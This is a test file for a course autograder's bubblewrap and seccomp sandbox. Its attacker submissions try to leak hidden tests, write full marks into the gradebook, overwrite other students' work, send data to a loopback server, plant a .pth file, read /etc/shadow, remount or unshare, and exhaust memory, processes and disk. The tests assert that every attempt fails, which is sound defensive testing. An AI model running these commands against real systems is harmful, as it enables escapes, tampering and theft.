"""The grading sandbox (coursetools/sandbox.py, coursetools/seccomp.py): student code run by
`mlsec-grade` cannot read or write the course, leave its sandbox, or take the grading machine's
resources.

Fast tests probe the sandbox's command line with system tools (as root, and as an unprivileged user
through `setpriv`): no capabilities, a non-root uid, the seccomp filter, no writable host folder.
The slow tests grade, with real nbgrader and real bubblewrap, honest submissions and attackers, on a
throwaway copy of the fixture course (tests/fixtures/course, lab "demo": two autograded tasks of 10
points each with hidden tests, one written answer), with the limits lowered in the course's config
so that the resource attacks stay small. Each attacker hands in the blank release with one attack in
its first cell.
"""
import copy
import hashlib
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import pytest

import labkit
from coursetools import grade, nbgrading, sandbox, seccomp

ROOT = Path(__file__).resolve().parents[1]
GRADE = Path(sys.executable).with_name("mlsec-grade")
FIXTURE = ROOT / "tests" / "fixtures" / "course"
LAB = "demo"


def _digest(folder: Path, *, skip: tuple[str, ...] = ()) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not any(part in skip for part in p.relative_to(folder).parts)
            and "__pycache__" not in p.parts}


def test_bwrap_is_installed_and_works():
    """The grader's sandbox exists here (CI installs Debian's bubblewrap in .ci/run)."""
    assert sandbox.check_available().endswith("bwrap")


def test_sandbox_command_binds_only_what_a_kernel_needs(tmp_path):
    conn = tmp_path / "rt" / "kernel.json"
    for uid in (None, 2_000_000_123):
        args = sandbox.bwrap_args(connection_file=conn, seccomp_fd=5, info_fd=6, uid=uid)
        pairs = list(zip(args, args[1:]))
        bound = {b for a, b in pairs if a in ("--ro-bind", "--bind", "--dev-bind")}
        assert str(Path(labkit.__file__).resolve().parent) in bound
        assert ("--ro-bind", str(conn)) in pairs  # the connection file comes in read-only
        assert not any(a in ("--bind", "--bind-try") for a, _ in pairs), "no host folder may be writable inside"
        for secret in (ROOT / "solutions", ROOT / "grading", ROOT / "coursetools", ROOT, Path.home()):
            assert str(secret.resolve()) not in bound, secret
        assert "/" not in bound  # an allowlist, not the whole machine
        assert {"--clearenv", "--die-with-parent", "--new-session", "--unshare-net", "--unshare-pid"} <= set(args)
        assert ("--cap-drop", "ALL") in pairs and ("--seccomp", "5") in pairs
        assert ("--size", str(2**30)) in pairs and ("--chdir", "/tmp") in pairs
        if uid is None:
            assert ("--uid", "65534") in pairs and "--disable-userns" in args
        else:
            assert "--unshare-user" not in args and {b for a, b in pairs if a == "--cap-add"} == {
                "CAP_SETUID", "CAP_SETGID", "CAP_SETPCAP"}


def test_seccomp_program_is_well_formed():
    import struct

    for arch in seccomp.ARCHES:
        prog = seccomp.filter_program(arch)
        assert len(prog) % 8 == 0 and 0 < len(prog) // 8 < 256
        code = [struct.unpack("=HBBI", prog[i:i + 8]) for i in range(0, len(prog), 8)]
        assert code[0] == (0x20, 0, 0, 4) and code[1][3] == seccomp.ARCHES[arch][0]  # the arch is checked first
        for pc, (op, jt, jf, _) in enumerate(code):  # every jump lands inside the program
            if op & 0x07 == 0x05:
                assert pc + 1 + max(jt, jf) < len(code)
    with pytest.raises(seccomp.UnsupportedArch, match="x86_64"):
        seccomp.filter_program("mips")


def test_seccomp_numbers_match_libseccomp():
    """The syscall tables against libseccomp's (Debian's python3-seccomp, for the system Python)."""
    system_python = shutil.which("python3", path="/usr/bin")
    code = ("import json, seccomp, sys; names = json.loads(sys.argv[1]); "
            "print(json.dumps({a: {n: seccomp.resolve_syscall(getattr(seccomp.Arch, a.upper()), n) for n in names[a]} "
            "for a in names}))")
    names = {arch: sorted(table) for arch, (_, table, _) in seccomp.ARCHES.items()}
    proc = subprocess.run([system_python or "python3", "-c", code, json.dumps(names)], capture_output=True, text=True)
    if proc.returncode != 0:
        if os.environ.get("CI"):
            pytest.fail(f"libseccomp's Python bindings are needed here (apt-get install python3-seccomp): {proc.stderr[-300:]}")
        pytest.skip("needs Debian's python3-seccomp")
    theirs = json.loads(proc.stdout)
    for arch, (_, table, _) in seccomp.ARCHES.items():
        assert table == theirs[arch], arch


PROBE = r"""
status = dict(line.split(':', 1) for line in open('/proc/self/status').read().splitlines() if ':' in line)
for key in ('Uid', 'Gid', 'CapEff', 'CapPrm', 'CapBnd', 'NoNewPrivs', 'Seccomp'):
    print(key, status[key].split()[0])
"""
PROBE_SH = r"""
grep -E '^(Uid|Gid|CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status | tr -s '	 ' ' '
unshare -U true 2>/dev/null && echo ESCAPE unshare
unshare -m true 2>/dev/null && echo ESCAPE unshare-mount
umount /proc 2>/dev/null && echo ESCAPE umount
mount -o remount,rw /usr 2>/dev/null && echo ESCAPE remount
cat /etc/shadow >/dev/null 2>&1 && echo ESCAPE shadow
for d in /usr /etc /sys /usr/lib / /dev /proc; do touch "$d/.mlsec-probe" 2>/dev/null && echo ESCAPE write "$d"; done
head -c 2097152 /dev/zero > /tmp/big 2>/dev/null || echo FULL tmp
echo x > /dev/null || echo NODEVNULL; rm -f /tmp/big; head -c 100 /dev/zero > /tmp/small && echo WROTE tmp
"""


def _probe(*, as_user: bool) -> dict[str, str]:
    """Run PROBE_SH with the sandbox's own command line (system tools only), as root or as nobody."""
    read, write = os.pipe()
    os.write(write, seccomp.filter_program())
    os.close(write)
    uid = None if as_user else 2_000_000_321
    cmd = sandbox.bwrap_args(connection_file=None, seccomp_fd=read, uid=uid, software=[], tmp_bytes=1 << 20)
    if uid is not None:
        cmd += ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--inh-caps=-all",
                "--bounding-set=-all", "--no-new-privs", "--"]
    cmd += ["/bin/sh", "-c", PROBE_SH]
    if as_user:
        cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"] + cmd
    try:
        proc = subprocess.run(cmd, pass_fds=(read,), capture_output=True, text=True, timeout=60)
    finally:
        os.close(read)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


@pytest.mark.parametrize("as_user", [False, True], ids=["as root", "as a user"])
def test_inside_no_capability_no_root_no_escape(as_user):
    if os.geteuid() != 0:
        pytest.skip("the grader runs as a user here: the root case needs root, the user case is this run")
    out = _probe(as_user=as_user)
    fields = dict(line.split(": ", 1) for line in out.splitlines() if ": " in line)
    assert fields["Uid"].split()[0] != "0" and fields["Gid"].split()[0] != "0", out
    for cap in ("CapEff", "CapPrm", "CapBnd"):
        assert int(fields[cap], 16) == 0, (cap, out)
    assert fields["NoNewPrivs"] == "1" and fields["Seccomp"] == "2", out
    assert "ESCAPE" not in out, out
    assert "FULL tmp" in out and "WROTE tmp" in out, out  # /tmp is writable, and its size is bounded
    for d in ("/usr", "/etc", "/sys", "/usr/lib"):
        assert not Path(d, ".mlsec-probe").exists()


def test_grade_refuses_without_bwrap_and_says_how_to_install(tmp_path, monkeypatch, capsys):
    course = nbgrading.make_course(tmp_path / "course", [LAB], source=FIXTURE)
    nbgrading.submit(course, "alice", LAB, nbgrading.read_notebook(FIXTURE / "solutions" / LAB / f"{LAB}.ipynb"))
    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
    monkeypatch.delenv("MLSEC_SANDBOX", raising=False)
    assert grade.main(["--course", str(course)]) == 2
    err = capsys.readouterr().err
    assert "refusing to grade" in err and "apt-get install bubblewrap" in err and "--no-sandbox" in err
    assert not (course / "grading" / "grades.csv").exists()


# ------------------------------------------------------------------------------ attackers
ATTACKS = {
    # print every file under the course and the repository that holds hidden tests
    "mallory_reads": """
import os
for top in (COURSE, REPO, '/'.join(os.getcwd().split('/')[:-4])):
    for d, _, files in os.walk(top):
        if 'site-packages' in d:
            continue
        for f in files:
            try:
                text = open(os.path.join(d, f), errors='ignore').read()
            except OSError:
                continue
            if 'BEGIN HIDDEN ' + 'TESTS' in text:  # split: the marker itself in a cell confuses nbgrader
                print('LEAK', os.path.join(d, f)); print(text)
""",
    # full marks for everyone, straight into nbgrader's gradebook
    "mallory_gradebook": """
import sqlite3, glob
for db in glob.glob(COURSE + '/grading/*.db') + glob.glob('../../../*.db'):
    try:
        con = sqlite3.connect(db); con.execute('UPDATE grade SET manual_score = 10, auto_score = 10'); con.commit(); print('WROTE', db)
    except Exception as err:
        print('no gradebook:', err)
""",
    # rewrite another student's hand-in, and its autograded copy
    "mallory_overwrites": """
import glob
for path in glob.glob(COURSE + '/grading/submitted/*/demo/demo.ipynb') + glob.glob(COURSE + '/grading/autograded/*/demo/demo.ipynb'):
    if '/mallory' not in path:
        try:
            open(path, 'w').write('{}'); print('OVERWROTE', path)
        except OSError as err:
            print('cannot write', path, err)
""",
    # change the course: a labkit source file and a new file in solutions/
    "mallory_tampers": """
import labkit
for path, mode in ((labkit.__file__, 'a'), (COURSE + '/solutions/demo/pwned.txt', 'w'), (REPO + '/solutions/pwned.txt', 'w')):
    try:
        open(path, mode).write('# pwned\\n'); print('WROTE', path)
    except OSError as err:
        print('cannot write', path, err)
""",
    # phone home: a TCP connection to a server on the grader's loopback
    "mallory_network": """
import socket
try:
    socket.create_connection(('127.0.0.1', PORT), timeout=3).sendall(b'exfiltrated'); print('CONNECTED')
except OSError as err:
    print('no network:', err)
""",
    # leave the sandbox: unmount and remount what hides or protects the course, a .pth file in the
    # grader's venv (it would run in every grader process), labkit, /etc, the shadow file, namespaces
    "mallory_escape": """
import os, subprocess, sysconfig, labkit
def attempt(what, fn):
    try:
        fn(); print('ESCAPED', what)
    except Exception as err:
        print('held:', what, type(err).__name__)
mounts = [line.split()[1] for line in open('/proc/self/mounts')]
for m in reversed(mounts):
    attempt('umount ' + m, lambda m=m: subprocess.run(['umount', '-l', m], check=True, capture_output=True))
for m in (sysconfig.get_paths()['purelib'], os.path.dirname(labkit.__file__), '/etc', '/'):
    attempt('remount ' + m, lambda m=m: subprocess.run(['mount', '-o', 'remount,bind,rw', m], check=True, capture_output=True))
attempt('pth', lambda: open(os.path.join(sysconfig.get_paths()['purelib'], 'zz_pwned.pth'), 'w').write('import os; os.system("touch /tmp/PWNED")'))
attempt('labkit', lambda: open(labkit.__file__, 'a').write('# pwned'))
attempt('etc', lambda: open('/etc/mlsec-pwned', 'w').write('x'))
attempt('shadow', lambda: open('/etc/shadow').read())
attempt('unshare', lambda: subprocess.run(['unshare', '-Ur', 'true'], check=True, capture_output=True))
attempt('setuid', lambda: os.setuid(0))
print(open('/proc/self/status').read())
""",
    # the machine's memory, processes and disk
    "mallory_memory": """
blocks = []
try:
    while True:
        blocks.append(bytearray(64 * 2**20))
except MemoryError:
    print('MemoryError after', len(blocks) * 64, 'MiB')
""",
    "mallory_forks": """
import subprocess
children = []
try:
    for _ in range(200):
        children.append(subprocess.Popen(['sleep', '60']))
except OSError as err:
    print('stopped after', len(children), 'processes:', err)
""",
    "mallory_disk": """
import os, tempfile
chunk = b'x' * 2**20
for folder in ('/tmp', '/dev/shm', '/run', os.environ.get('JUPYTER_RUNTIME_DIR', '/run'), os.path.expanduser('~')):
    written = 0
    try:
        with open(os.path.join(folder, 'fill'), 'wb') as fh:
            for _ in range(2048):
                fh.write(chunk); written += 1
    except OSError as err:
        print(folder, 'full after', written, 'MiB:', type(err).__name__)
""",
    # one enormous line of output, and more in other outputs
    "mallory_output": """
print('x' * 200_000_000)
from IPython.display import display, HTML
for _ in range(50):
    display(HTML('y' * 2**20))
""",
}
# The honest part of a hand-in keeps its points when a later cell hits a limit.
CPU_ATTACK = "while True:\n    pass\n"
LIMITS = """
c.SandboxKernelManager.memory_limit = 768 * 2**20
c.SandboxKernelManager.process_limit = 64
c.SandboxKernelManager.cpu_time_limit = 15
c.SandboxKernelManager.tmp_size = 64 * 2**20
c.SandboxKernelManager.shm_size = 16 * 2**20
c.SandboxKernelManager.file_size_limit = 128 * 2**20
c.SandboxExecute.max_cell_output_bytes = 2**20
c.SandboxExecute.max_notebook_output_bytes = 4 * 2**20
"""


def _venv_state() -> dict[str, tuple[int, int]]:
    """Every file of the grader's environment with its size and modification time (a .pth file
    written there would run in every grader process)."""
    return {str(p): (p.stat().st_size, p.stat().st_mtime_ns) for p in Path(sys.prefix).rglob("*")
            if p.is_file() and not p.is_symlink() and "__pycache__" not in p.parts}


def _host_leftovers() -> set[str]:
    """What grading kernels could leave on the host: folders in the temp folder and in /dev/shm."""
    import tempfile

    found = set()
    for folder in (Path(tempfile.gettempdir()), Path("/dev/shm")):
        if folder.is_dir():
            found |= {str(p) for p in folder.iterdir()}
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    course = nbgrading.make_course(tmp_path_factory.mktemp("sandbox") / "course", [LAB], source=FIXTURE)
    with open(course / "nbgrader_config.py", "a") as fh:  # small limits: the attacks stay cheap
        fh.write(LIMITS)
    solution = nbgrading.read_notebook(FIXTURE / "solutions" / LAB / f"{LAB}.ipynb")
    release = nbgrading.read_notebook(nbgrading.generate_assignment(course, LAB))
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.5)
    port, received, stop = server.getsockname()[1], [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100))
            except OSError:
                continue

    threading.Thread(target=serve, daemon=True).start()
    prelude = f"COURSE = {str(course)!r}\nREPO = {str(ROOT)!r}\nPORT = {port}\n"
    nbgrading.submit(course, "alice", LAB, solution)  # graded before the attackers
    for name, attack in ATTACKS.items():
        nb = copy.deepcopy(release)
        nbgrading.cell_by_id(nb, "add").source = prelude + attack + "\n" + nbgrading.cell_by_id(nb, "add").source
        nbgrading.submit(course, name, LAB, nb)
    cpu = copy.deepcopy(solution)  # add is right, mean loops: 10 points for add, 0 for mean
    nbgrading.cell_by_id(cpu, "mean").source = CPU_ATTACK + nbgrading.cell_by_id(cpu, "mean").source
    nbgrading.submit(course, "mallory_cpu", LAB, cpu)
    nbgrading.submit(course, "zoe", LAB, solution)  # graded after them
    submitted = nbgrading.course_dir(course, "submitted")
    before = {"submitted": _digest(submitted), "solutions": _digest(course / "solutions"),
              "repo_solutions": _digest(ROOT / "solutions"), "labkit": _digest(Path(labkit.__file__).parent),
              "config": _digest(course, skip=("grading", "solutions"))}
    before["venv"], leftovers = _venv_state(), _host_leftovers()
    env = {k: v for k, v in os.environ.items() if k != "MLSEC_SANDBOX"}
    proc = subprocess.run([str(GRADE), "--course", str(course), "--workers", "2", "--dashboard", ":0"],
                          capture_output=True, text=True, timeout=1200, env=env)
    after_venv, new_leftovers = _venv_state(), _host_leftovers() - leftovers
    stop.set()
    server.close()
    after = {"submitted": _digest(submitted), "solutions": _digest(course / "solutions"),
             "repo_solutions": _digest(ROOT / "solutions"), "labkit": _digest(Path(labkit.__file__).parent),
             "config": _digest(course, skip=("grading", "solutions"))}
    after["venv"] = after_venv
    return dict(course=course, proc=proc, before=before, after=after, received=received, leftovers=new_leftovers)


def _gradebook_scores(course: Path) -> dict[str, float]:
    """Auto scores per student as nbgrader's gradebook holds them (what formgrader and export read)."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'grading' / 'gradebook.db'}") as gb:
        return {s.id: gb.find_submission(LAB, s.id).code_score for s in gb.students}


@pytest.mark.slow
def test_attacks_do_no_harm(attacked):
    proc = attacked["proc"]
    assert proc.returncode == 0, proc.stdout + proc.stderr
    for part in ("submitted", "solutions", "repo_solutions", "labkit", "config", "venv"):
        assert attacked["before"][part] == attacked["after"][part], f"{part} changed"
    assert not (attacked["course"] / "solutions" / LAB / "pwned.txt").exists()
    assert attacked["received"] == [], "a submission reached the grader's loopback"
    assert not Path("/etc/mlsec-pwned").exists() and not Path("/tmp/PWNED").exists()
    # what a kernel could leave: its runtime folder, or a file it filled (other processes of the
    # machine may make their own temporary folders meanwhile)
    assert not [p for p in attacked["leftovers"] if "mlsec-kernel" in p or "fill" in p], attacked["leftovers"]


@pytest.mark.slow
def test_the_gradebook_holds_the_right_scores(attacked):
    scores = _gradebook_scores(attacked["course"])
    assert scores["alice"] == 20 and scores["zoe"] == 20, scores
    for name in ATTACKS:
        assert scores[name] == 0, (name, scores)
    assert scores["mallory_cpu"] == 10, scores  # add passed before the loop in mean hit the CPU limit
    with sqlite3.connect(attacked["course"] / "grading" / "gradebook.db") as con:  # no stray full marks
        assert con.execute("SELECT count(*) FROM grade WHERE auto_score > 0").fetchone()[0] == 5  # 2 x alice, zoe; 1 x mallory_cpu


@pytest.mark.slow
def test_attackers_saw_nothing_and_their_feedback_shows_no_hidden_test(attacked):
    course = attacked["course"]
    for name in ATTACKS:
        out = "".join(o.get("text", "") for o in nbgrading.cell_by_id(nbgrading.read_notebook(
            course / "grading" / "autograded" / name / LAB / f"{LAB}.ipynb"), "add").outputs)
        for sign in ("LEAK", "hidden-check", "WROTE", "OVERWROTE", "CONNECTED", "ESCAPED"):
            assert sign not in out, (name, out)
        feedback = (course / "grading" / "feedback" / name / LAB / f"{LAB}.html").read_text()
        for secret in ("hidden-check", "HIDDEN TESTS", "add(-7, 12)"):
            assert secret not in feedback, (name, secret)


def _add_output(course: Path, student: str) -> str:
    nb = nbgrading.read_notebook(course / "grading" / "autograded" / student / LAB / f"{LAB}.ipynb")
    return "".join(o.get("text", "") + o.get("evalue", "") for o in nbgrading.cell_by_id(nb, "add").outputs)


@pytest.mark.slow
def test_the_kernel_held_no_privilege(attacked):
    out = _add_output(attacked["course"], "mallory_escape")
    status = dict(line.split(":", 1) for line in out.splitlines() if line.startswith(("Uid:", "CapEff:", "CapBnd:", "Seccomp:")))
    assert status["Uid"].split()[0] != "0" and int(status["CapEff"], 16) == 0 and int(status["CapBnd"], 16) == 0, out
    assert status["Seccomp"].strip() == "2", out
    assert out.count("held:") >= 8 and "ESCAPED" not in out, out


@pytest.mark.slow
def test_resource_attacks_stop_at_their_limits(attacked):
    course = attacked["course"]
    assert "MemoryError after" in _add_output(course, "mallory_memory")
    forks = _add_output(course, "mallory_forks")
    assert "stopped after" in forks and int(forks.split("stopped after")[1].split()[0]) < 64, forks
    disk = _add_output(course, "mallory_disk")
    for folder in ("/tmp", "/dev/shm", "/run"):
        assert f"{folder} full after" in disk, disk
    assert int(disk.split("/tmp full after")[1].split()[0]) <= 64, disk  # MiB: the tmpfs's size
    # 200 MB of output: the notebook and the feedback keep at most the caps, and say so
    graded = course / "grading" / "autograded" / "mallory_output" / LAB / f"{LAB}.ipynb"
    feedback = course / "grading" / "feedback" / "mallory_output" / LAB / f"{LAB}.html"
    assert graded.stat().st_size < 6 * 2**20 and feedback.stat().st_size < 8 * 2**20
    assert "output cut" in _add_output(course, "mallory_output")


@pytest.mark.slow
def test_a_limit_scores_what_did_not_finish_zero_and_says_why(attacked):
    course = attacked["course"]
    nb = nbgrading.read_notebook(course / "grading" / "autograded" / "mallory_cpu" / LAB / f"{LAB}.ipynb")
    errors = [o for o in nbgrading.cell_by_id(nb, "mean").outputs if o.get("output_type") == "error"]
    assert errors and errors[-1]["ename"] == "SandboxLimitError" and "CPU time limit (15 s)" in errors[-1]["evalue"]
    later = [o for o in nbgrading.cell_by_id(nb, "test_mean").outputs if o.get("output_type") == "error"]
    assert later and "not run" in later[0]["evalue"]
    feedback = (course / "grading" / "feedback" / "mallory_cpu" / LAB / f"{LAB}.html").read_text()
    assert "CPU time limit" in feedback
    import csv

    rows = {r["student"]: r for r in csv.DictReader(open(course / "grading" / "grades.csv"))}
    assert rows["mallory_cpu"]["status"].startswith("limit:") and "CPU time" in rows["mallory_cpu"]["status"], rows
    assert "mallory_cpu" in attacked["proc"].stdout  # listed in the run's report
    assert rows["alice"]["status"] == "ok" and rows["zoe"]["status"] == "ok"
